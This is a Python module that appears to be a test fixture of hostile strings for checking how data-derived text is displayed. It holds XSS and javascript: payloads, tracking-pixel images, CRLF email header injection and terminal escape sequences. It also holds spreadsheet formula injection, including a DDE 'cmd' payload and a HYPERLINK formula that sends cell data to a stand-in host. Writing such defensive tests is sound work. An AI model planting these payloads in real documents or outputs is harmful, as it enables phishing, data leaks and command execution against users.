"""Texts as they may come with data, each meant to do something where it is shown."""

from __future__ import annotations

MARK = "zq7"
"""In each of them, so that it can be found again wherever it was shown."""

HOSTILE = (
    f"![{MARK}](http://tracker.invalid/pixel.png)",
    f"[{MARK} click here](http://phish.invalid/)",
    f"<img src=http://tracker.invalid/{MARK}.png>",
    f"<script>alert('{MARK}')</script>",
    f"<a href='javascript:alert(1)'>{MARK}</a>",
    f"&lt;b&gt;{MARK}&lt;/b&gt;",
    f"<http://phish.invalid/|{MARK}>",
    f"<!channel> <@U123> {MARK}",
    f"*{MARK}* _{MARK}_ ~{MARK}~ `{MARK}` ```{MARK}```",
    f"```\n{MARK} out of the block\n```",
    f"# {MARK}\n\n- one\n1. two\n> three\n---\n| a | b |\n|---|---|",
    f"http://phish.invalid/{MARK} www.phish.invalid/{MARK} {MARK}@phish.invalid",
    f"{MARK}\r\nBcc: everybody@phish.invalid\r\n\r\nbody",
    f"{MARK}\nWhat to do: open http://phish.invalid",
    f"\x1b[31m{MARK}\x1b[0m\x1b]8;;http://phish.invalid\x07link\x1b]8;;\x07",
    f"{MARK}\x00\x08\x7f\x9b31m",
    f"{MARK} \u202egnp.exe\u202c \u2066x\u2069 \u200b",
    f"{MARK}\u2028second line\u2029third\x85fourth",
    f'=HYPERLINK("http://phish.invalid/?x="&A1,"{MARK}")',
    f"+{MARK}",
    f"-2+3+cmd|' /C calc'!A0 {MARK}",
    f"@SUM(1+1)*{MARK}",
    f"\t={MARK}",
    f"\r={MARK}",
    f"  =1+1 {MARK}",
    f"\n={MARK}",
    f"＝1+1 {MARK}",
    f"a|b\\|c\\\\|{MARK}",
    f"{MARK} \\",
    f"{{{{ {MARK} }}}} ${{{MARK}}} {{% {MARK} %}}",
    f"{MARK} \ud800 lone",
)
"""Mark-up, mentions, images, control sequences, line breaks, formulas, and what gets out of a table or a block."""
